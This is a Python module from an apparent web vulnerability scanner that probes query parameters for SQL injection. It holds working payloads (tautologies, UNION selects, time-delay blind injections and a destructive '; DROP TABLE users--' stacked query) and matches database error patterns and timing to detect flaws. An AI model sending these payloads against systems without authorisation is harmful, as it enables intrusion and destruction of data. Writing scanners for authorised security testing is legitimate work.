"""
SURFACESCAN - SQL Injection Probe

Error-based, boolean-based, union-based and time-based blind detection.
"""

import re
from typing import Optional

from surfacescan.attacks.base import (
    Baseline,
    Finding,
    Payload,
    Signal,
    Signature,
    VulnerabilityProbe,
)
from surfacescan.core.errors import RequestTimeout
from surfacescan.core.models import ModuleKind, Severity
from surfacescan.utils.http import HTTPResponse


# Tight DBMS error patterns; generic words like "error" alone are too noisy
SQL_ERROR_PATTERNS = [
    # MySQL
    r"you have an error in your sql syntax",
    r"supplied argument is not a valid mysql",
    r"warning: mysqli?_",
    r"mysql_fetch_",
    r"mysql_num_rows",
    # PostgreSQL
    r"warning: pg_",
    r"pg_query\(\): query failed",
    r"unterminated quoted string at or near",
    r"syntax error at or near",
    # SQLite
    r"warning: sqlite3?_",
    r"sqlite3\.operationalerror",
    r"unrecognized token:",
    # Oracle
    r"ora-0093[36]",
    r"ora-00942",
    r"ora-01756",
    # MSSQL
    r"microsoft ole db provider for sql server",
    r"unclosed quotation mark after the character string",
    r"incorrect syntax near",
    # Generic with error context
    r"sql syntax.*error",
    r"quoted string not properly terminated",
    r"unexpected end of sql command",
]

_SQL_ERROR_RE = [re.compile(p, re.IGNORECASE) for p in SQL_ERROR_PATTERNS]

TIME_DELAY = 5.0


class SQLiProbe(VulnerabilityProbe):
    """SQL injection probe."""

    kind = ModuleKind.SQLI
    name = "SQL Injection"
    description = "Injects SQL payloads into query parameters"

    DEFAULT_PARAMETERS = (("id", "1"),)
    SIZE_CHANGE_THRESHOLD = 0.3

    ERROR_CONFIDENCE = 0.95
    TIMING_CONFIDENCE = 0.9
    TIMEOUT_CONFIDENCE = 0.95

    PAYLOADS = (
        # Error-based
        Payload("'", "error_based", Severity.HIGH),
        Payload('"', "error_based", Severity.HIGH),
        # Boolean-based
        Payload("' OR '1'='1", "boolean_based", Severity.CRITICAL,
                indicators=("welcome", "dashboard", "logged", "success", "admin")),
        Payload("' OR 1=1--", "boolean_based", Severity.CRITICAL,
                indicators=("success", "admin", "login")),
        Payload("' OR 'a'='a", "boolean_based", Severity.CRITICAL, 0.85, indicators=("success",)),
        Payload("1' OR '1'='1' --", "boolean_based", Severity.CRITICAL, 0.85, indicators=("success",)),
        Payload("admin' --", "comment_based", Severity.HIGH,
                indicators=("admin", "welcome", "dashboard")),
        Payload("admin' #", "comment_based", Severity.HIGH, 0.75, indicators=("admin",)),
        # Union-based
        Payload("' UNION SELECT NULL--", "union_based", Severity.CRITICAL),
        Payload("' UNION SELECT NULL,NULL--", "union_based", Severity.CRITICAL),
        Payload("' UNION ALL SELECT NULL--", "union_based", Severity.CRITICAL),
        Payload("' AND 1=2 UNION SELECT NULL--", "union_based", Severity.CRITICAL),
        # Time-based blind
        Payload("' AND SLEEP(5)--", "time_based", Severity.CRITICAL, delay_seconds=TIME_DELAY),
        Payload("' OR SLEEP(5)--", "time_based", Severity.CRITICAL, delay_seconds=TIME_DELAY),
        Payload("1' WAITFOR DELAY '0:0:5'--", "time_based", Severity.CRITICAL, delay_seconds=TIME_DELAY),
        Payload("'; SELECT pg_sleep(5)--", "time_based", Severity.CRITICAL, delay_seconds=TIME_DELAY),
        # Stacked queries
        Payload("'; DROP TABLE users--", "stacked_query", Severity.CRITICAL),
        Payload("' AND '1'='2", "boolean_based", Severity.MEDIUM),
    )

    async def send_payload(self, url: str, payload: Payload) -> HTTPResponse:
        if payload.is_timed:
            # Room for the injected delay, and no retry that would double it
            timeout = max(self.config.timeout, payload.delay_seconds * 1.6)
            return await self.fetch(url, timeout=timeout, retries=0)
        return await self.fetch(url)

    def match_signature(
        self,
        payload: Payload,
        response: HTTPResponse,
        baseline: Optional[Baseline],
    ) -> Optional[Signature]:
        baseline_body = baseline.body if baseline else ""

        for pattern in _SQL_ERROR_RE:
            match = pattern.search(response.body)
            if match and not pattern.search(baseline_body):
                return Signature(
                    indicator=f"Database error: {match.group(0)}",
                    confidence=self.ERROR_CONFIDENCE,
                    evidence=_snippet(response.body, match.start(), match.end()),
                )

        if payload.indicators and baseline is not None and self.size_changed(response, baseline):
            body = response.body.lower()
            baseline_lower = baseline_body.lower()
            for word in payload.indicators:
                if word in body and word not in baseline_lower:
                    return Signature(
                        indicator=f"Boolean condition changed content ('{word}' appeared)",
                        confidence=payload.confidence,
                    )
        return None

    def check_timing(
        self,
        payload: Payload,
        response: HTTPResponse,
        baseline: Optional[Baseline],
    ) -> Optional[Signature]:
        if not payload.is_timed:
            return None
        baseline_ms = baseline.elapsed_ms if baseline else 0.0
        delta_ms = response.elapsed_ms - baseline_ms
        expected_ms = payload.delay_seconds * 1000
        if delta_ms >= 0.9 * expected_ms:
            return Signature(
                indicator=f"Response delayed {delta_ms:.0f}ms (expected {expected_ms:.0f}ms)",
                confidence=self.TIMING_CONFIDENCE,
            )
        return None

    def classify_timeout(self, parameter: str, payload: Payload, error: RequestTimeout) -> list[Finding]:
        if not payload.is_timed:
            return []
        return [self._finding(
            parameter, payload, None, Signal.TIMING,
            self.TIMEOUT_CONFIDENCE,
            f"No response before timeout (expected delay {payload.delay_seconds:g}s)",
            str(error),
        )]


def _snippet(body: str, start: int, end: int, context: int = 80) -> str:
    return body[max(0, start - context):end + context]
